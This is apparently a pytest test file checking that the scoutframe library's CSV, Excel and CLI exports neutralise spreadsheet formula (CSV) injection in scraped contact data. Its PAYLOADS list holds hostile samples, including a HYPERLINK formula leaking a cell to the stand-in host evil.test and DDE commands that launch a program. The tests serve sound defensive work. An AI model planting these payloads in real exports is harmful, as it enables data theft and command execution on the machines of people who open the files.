"""Hostile data: contacts scraped from web pages that a spreadsheet would run as formulas.

A scripted SphereScout sells an export whose names, websites, addresses and category lists
start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (OWASP's "CSV injection"
payloads, DDE commands included), next to ordinary phone numbers (``+33 …``) and negative
numbers. Each file scoutframe writes for people (``df.spherescout.to_csv`` / ``to_excel``,
``scoutframe search -o x.csv``) is then opened as a spreadsheet would open it, and checked:

* no cell a spreadsheet reads as a formula that could name a function, a cell or a program
  (by default); the phone numbers are exactly the API's text;
* ``read_export_csv`` of our own CSV gives back the original text of every cell;
* ``escape_formulas=False`` (``--keep-formulas``) writes the cells as they are.

A property test runs the rule on arbitrary texts (round trip, nothing dangerous left).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from scene import FILTERS, KEY, Scene, contact_row
from scripted import ScriptedServers

import scoutframe
from scoutframe.cli import main as cli_main
from scoutframe.tables import formulas
from scoutframe.tables.schema import CONTACT_COLUMNS

#: Texts a web page can hand a scraper, with what a spreadsheet would do with them.
PAYLOADS = [
    '=HYPERLINK("http://evil.test/?leak="&A2,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "'=already quoted by someone",
    "''+evil",
    "-Le Bistrot-",
    "+ Plomberie Plus",
    "@plombier_paris",
    "=",
]
#: Texts that start like a formula but are numbers or phone numbers: left exactly as they are.
PHONES = ["+33 1 23 45 67 89", "+1 (555) 010-9999", "-12.5", "+44 20 7946 0958"]
#: Ordinary texts that look close to the rule's edges.
ORDINARY = ["'t Hoekje", "Plomberie = Qualité", "a+b", "Café-Bar"]

#: Characters a formula needs to name a function, a cell, a sheet or a program.
_HARMLESS_FORMULA = re.compile(r"[+-][0-9 ().\/;+-]*")


def runs_in_a_spreadsheet(cell: str) -> bool:
    """Whether a spreadsheet opening the CSV would run ``cell`` as a formula that can harm.

    Written apart from the library's rule: the first character makes it a formula; only a
    formula made of digits, spaces and arithmetic signs after a ``+``/``-`` cannot reach a
    function, a cell or a program.
    """
    if not cell or cell[0] not in "=+-@\t\r":
        return False
    return _HARMLESS_FORMULA.fullmatch(cell) is None


def hostile_rows() -> list[dict[str, str]]:
    """One contact per payload (in name, website, address, categories), then plain ones."""
    rows = []
    texts = PAYLOADS + ORDINARY
    for i, text in enumerate(texts):
        row = contact_row(i)
        row["name"] = text
        row["website"] = texts[(i + 1) % len(texts)]
        row["address"] = texts[(i + 2) % len(texts)]
        row["categories"] = f"{texts[(i + 3) % len(texts)]}; Plumber"
        row["phone"] = f"{PHONES[i % len(PHONES)]}; {PHONES[(i + 1) % len(PHONES)]}"
        row["instagram"] = PHONES[i % len(PHONES)]
        rows.append(row)
    return rows


def csv_bytes(rows: list[dict[str, str]]) -> bytes:
    """The export file (every field quoted: Python's csv leaves a lone carriage return bare)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writerow(CONTACT_COLUMNS)
    for row in rows:
        writer.writerow([row[name] for name in CONTACT_COLUMNS])
    return out.getvalue().encode()


def cells_of(path: Path) -> list[list[str]]:
    """Every cell of a CSV file as a spreadsheet receives it (the text, unquoted)."""
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


@pytest.fixture
def hostile(tmp_path: Path, figures: Any) -> Any:
    """A scene whose export holds the hostile contacts, and the frame a read makes of it."""
    with ScriptedServers() as servers:
        scene = Scene(servers, tmp_path)
        rows = hostile_rows()
        scene.rows = len(rows)
        scene.csv = csv_bytes(rows)
        client = scene.client()
        df = scene.read(client, cache=False, cache_dir=None)
        try:
            yield scene, rows, df
        finally:
            scene.close()
    figures.add("formula injection: hostile texts tried", len(PAYLOADS))


def _check_frame_is_the_api_text(df: pd.DataFrame, rows: list[dict[str, str]]) -> None:
    assert list(df["name"]) == [row["name"] for row in rows]  # the frame itself is untouched
    assert [list(p) for p in df["phone"]] == [row["phone"].split("; ") for row in rows]


def test_csv_neutralises_formulas_and_reads_back_the_original(hostile: Any, figures: Any) -> None:
    scene, rows, df = hostile
    _check_frame_is_the_api_text(df, rows)
    path = df.spherescout.to_csv(scene.tmp / "contacts.csv")
    cells = [cell for line in cells_of(path)[1:] for cell in line]
    dangerous = [cell for cell in cells if runs_in_a_spreadsheet(cell)]
    assert dangerous == []
    # Phones (and lists of them) are the API's text, byte for byte: no apostrophe in front.
    lines = cells_of(path)[1:]
    assert [line[3] for line in lines] == [row["phone"] for row in rows]
    assert [line[5] for line in lines] == [row["instagram"] for row in rows]
    back = scoutframe.read_export_csv(path)
    pd.testing.assert_frame_equal(back, df.reset_index(drop=True), check_like=False)
    figures.add("formula injection: csv cells checked", len(cells))
    figures.add("formula injection: dangerous cells left", len(dangerous))


def pa_text(values: list[str]) -> Any:
    import pyarrow as pa

    return pa.chunked_array([pa.array(values, pa.string())])


def test_csv_opt_out_writes_the_cells_as_they_are(hostile: Any) -> None:
    scene, rows, df = hostile
    path = df.spherescout.to_csv(scene.tmp / "raw.csv", escape_formulas=False)
    names = [line[1] for line in cells_of(path)[1:]]
    assert names == [row["name"] for row in rows]
    assert any(runs_in_a_spreadsheet(name) for name in names)  # as asked: not neutralised
    back = scoutframe.read_export_csv(path, escape_formulas=False)
    pd.testing.assert_frame_equal(back, df.reset_index(drop=True))


def _sheet(path: Path) -> tuple[str, str]:
    with zipfile.ZipFile(path) as book:
        sheet = next(n for n in book.namelist() if n.startswith("xl/worksheets/sheet"))
        return book.read(sheet).decode(), book.read("xl/styles.xml").decode()


def test_excel_never_holds_a_formula(hostile: Any, figures: Any) -> None:
    pytest.importorskip("openpyxl")
    import openpyxl

    scene, rows, df = hostile
    path = df.spherescout.to_excel(scene.tmp / "contacts.xlsx")
    sheet, styles = _sheet(path)
    assert "<f>" not in sheet  # not one formula in the workbook
    assert "<f " not in sheet
    assert 'quotePrefix="1"' in styles
    book = openpyxl.load_workbook(path)
    names = [c.value for c in book["contacts"]["B"][1:]]
    flagged = [c.quotePrefix for c in book["contacts"]["B"][1:]]
    # XML turns a carriage return into a line feed (openpyxl writes it bare): text for people.
    assert names == [row["name"].replace("\r", "\n") for row in rows]
    assert all(flag for name, flag in zip(names, flagged, strict=True) if name[0] in "=+-@\t\n")
    phones = [c.value for c in book["contacts"]["D"][1:]]
    assert phones == [row["phone"] for row in rows]  # shown as the API wrote them
    book.close()
    unsafe = df.spherescout.to_excel(scene.tmp / "unsafe.xlsx", escape_formulas=False)
    assert "<f>" in _sheet(unsafe)[0]  # the opt-out writes what it says
    figures.add("formula injection: excel cells checked", len(rows) * len(df.columns))


def test_cli_output_csv_is_neutralised(
    hostile: Any, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    scene, rows, _ = hostile
    monkeypatch.setenv("SPHERESCOUT_API_KEY", KEY)
    monkeypatch.setenv("SPHERESCOUT_BASE_URL", scene.api.url)
    monkeypatch.setenv("SPHERESCOUT_CONFIG", str(scene.tmp / "absent.toml"))
    monkeypatch.setenv("XDG_STATE_HOME", str(scene.tmp / "xdg-state"))
    monkeypatch.setenv("SCOUTFRAME_PROGRESS", "0")
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.null.Keyring")
    args = ["search", "--countries", FILTERS["countries"], "--category", FILTERS["category"]]
    args += ["--method", "export"]
    for name, extra in (("cli.csv", []), ("cli-raw.csv", ["--keep-formulas"])):
        assert cli_main([*args, "-o", str(scene.tmp / name), *extra]) == 0
        capsys.readouterr()
    cells = [cell for line in cells_of(scene.tmp / "cli.csv")[1:] for cell in line]
    assert [cell for cell in cells if runs_in_a_spreadsheet(cell)] == []
    raw = [line[1] for line in cells_of(scene.tmp / "cli-raw.csv")[1:]]
    assert raw == [row["name"] for row in rows]
    back = scoutframe.read_export_csv(scene.tmp / "cli.csv")
    assert list(back["name"]) == [row["name"] for row in rows]


_ANY_TEXT = st.text(
    alphabet=st.sampled_from(list("=+-@\t\r'0123456789 ().;/aZ|!:\""))
    | st.characters(exclude_categories=("Cs",)),
    max_size=12,
)


@settings(max_examples=400, deadline=None)
@given(values=st.lists(_ANY_TEXT, min_size=1, max_size=8))
def test_the_rule_on_any_text(values: list[str], figures: Any) -> None:
    figures.add("formula rule: random texts checked", len(values))
    column = pa_text(values)
    escaped = formulas.escape(column).to_pylist()
    assert [v for v in escaped if runs_in_a_spreadsheet(v)] == []
    assert formulas.unescape(formulas.escape(column)).to_pylist() == values
    for value, out in zip(values, escaped, strict=True):
        assert out == ("'" + value if formulas.needs_escape(value) else value)
        if _HARMLESS_FORMULA.fullmatch(value):
            assert out == value  # numbers and phones never change
